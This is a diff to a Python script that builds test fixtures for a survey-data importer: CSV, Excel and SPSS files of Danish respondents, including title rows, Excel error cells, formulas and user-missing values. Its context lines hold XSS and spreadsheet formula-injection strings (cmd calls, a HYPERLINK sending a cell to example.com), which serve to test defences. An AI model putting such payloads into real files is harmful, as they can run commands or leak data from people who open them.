@@ -27,6 +27,7 @@ CODEBOOK = ROOT / "data" / "codebook.yaml"
 CORPUS = Path(__file__).resolve().parent / "corpus"
 Q = "fagprofessionelle"
 N = 8
+IDS_BY_RECORD = [f"F{r + 1:03d}" for r in range(N)]
 
 JOB_TITLES = ["Socialrådgiver", "Pædagog", "Afdelingsleder", "Sygeplejerske", "Administrativ medarbejder",
               "Støttekontaktperson", "Socialpædagog", "Ergoterapeut"]
@@ -37,6 +38,15 @@ HTML = "<script>alert(1)</script>"
 FORMULAS = ['=HYPERLINK("http://example.com/x?q="&A1,"Klik her")', "+cmd|' /C calc'!A0", "@SUM(A1)",
             "-2+3+cmd|' /C notepad'!A0", "=1+1"]
 EXTRA_COLUMNS = ["StartDate", "EndDate", "Browser", "Status"]
+TITLE = "Eksport fra SurveyXact: Fagprofessionelle, bølge 2023"
+# (record, column, error) of the error cells of excel_errors_and_formulas.xlsx, and its formulas
+EXCEL_ERRORS = [(1, "erh_let", "#DIV/0!"), (4, "erh_let", "#N/A"), (2, "int_glad", "#VALUE!"),
+                (6, "krav_boksen", "#REF!")]
+EXCEL_FORMULAS = [(3, "experience_years", "=2020-1972-30"), (5, "krav_ansvar", "=J2")]
+# column -> (missing ranges or values, [(record, value)]) of spss_user_missing.sav
+SPSS_USER_MISSING = {"erh_let": ([9.0], [(0, 9.0), (3, 9.0)]),
+                     "int_tid": ([{"lo": 98.0, "hi": 99.0}], [(1, 99.0), (6, 98.0)]),
+                     "job_title": (["-"], [(7, "-")])}
 
 
 # ------------------------------------------------------------------------------------- the base
@@ -231,6 +241,13 @@ def csv_files() -> dict[str, bytes]:
                 row[key] = ""
     files["only_ids_no_answers.csv"] = utf8(csv_text(rows))
 
+    rows = base_rows()
+    for row in rows:
+        for key in row:
+            if key not in ("respondent_id", "institution"):
+                row[key] = ""
+    files["only_id_and_institution.csv"] = utf8(csv_text(rows))
+
     files["single_valid_row.csv"] = utf8(csv_text(base_rows(1)))
     files["header_only.csv"] = utf8(csv_text(base_rows(1)).splitlines(keepends=True)[0])
     files["empty.csv"] = b""
@@ -245,6 +262,8 @@ def csv_files() -> dict[str, bytes]:
     lines = csv_text(base_rows()).splitlines(keepends=True)
     lines[4] = ",".join(lines[4].split(",")[:35]) + "\n"    # record 4 (row 5) stops after krav_ansvar
     files["ragged_too_few_fields.csv"] = utf8("".join(lines))
+
+    files["title_line_above_header.csv"] = utf8(f"{TITLE}\n" + csv_text(base_rows(), delimiter=";"))
 
     # Columns ---------------------------------------------------------------------------------
     rows = base_rows()
@@ -321,6 +340,41 @@ def xlsx_two_header_rows(path: Path) -> None:
     frame.to_excel(path, index=False, header=False, sheet_name="Svar")
 
 
+def xlsx_body() -> list[list]:
+    """The base respondents as an Excel export holds them: labels, with numbers as numbers."""
+    body = []
+    for coded, labelled in zip(base_codes(), as_labels(base_codes())):
+        body.append([coded[iid] if iid in ("birth_year", "experience_years") else labelled[iid] for iid in labelled])
+    return body
+
+
+def xlsx_title_row_above_header(path: Path) -> None:
+    """An Excel export with a title in A1, a blank row 2 and the column names in row 3."""
+    width = len(COLUMNS)
+    frame = pd.DataFrame([[TITLE] + [None] * (width - 1), [None] * width, COLUMNS, *xlsx_body()])
+    frame.to_excel(path, index=False, header=False, sheet_name="Svar")
+
+
+def xlsx_errors_and_formulas(path: Path) -> None:
+    """Error cells (#DIV/0! ...) and formulas whose value is not stored (openpyxl does not calculate)."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Svar"
+    sheet.append(COLUMNS)
+    for row in xlsx_body():
+        sheet.append(row)
+    position = {column: k + 1 for k, column in enumerate(COLUMNS)}
+    for record, column, error in EXCEL_ERRORS:
+        cell = sheet.cell(row=record + 2, column=position[column])
+        cell.value = error
+        cell.data_type = "e"
+    for record, column, formula in EXCEL_FORMULAS:
+        sheet.cell(row=record + 2, column=position[column]).value = formula
+    book.save(path)
+
+
 def sav_frame() -> pd.DataFrame:
     frame = pd.DataFrame(base_codes())
     for col in frame.columns:
@@ -346,8 +400,22 @@ def sav_reversed_value_labels(path: Path) -> None:
     pyreadstat.write_sav(frame, str(path), variable_value_labels=labels)
 
 
+def sav_user_missing(path: Path) -> None:
+    """User-defined missing values: 9 in erh_let, 98-99 in int_tid, '-' in job_title."""
+    frame = sav_frame()
+    for column, (_, cells) in SPSS_USER_MISSING.items():
+        for record, value in cells:
+            frame.loc[record, column] = value
+    pyreadstat.write_sav(frame, str(path),
+                         missing_ranges={column: spec for column, (spec, _) in SPSS_USER_MISSING.items()},
+                         variable_value_labels={"erh_let": {9.0: "Ved ikke"}})
+
+
 BINARY_FILES = {
     "two_header_rows.xlsx": xlsx_two_header_rows,
+    "title_row_above_header.xlsx": xlsx_title_row_above_header,
+    "excel_errors_and_formulas.xlsx": xlsx_errors_and_formulas,
+    "spss_user_missing.sav": sav_user_missing,
     "no_value_labels.sav": sav_no_value_labels,
     "reversed_value_labels.sav": sav_reversed_value_labels,
 }
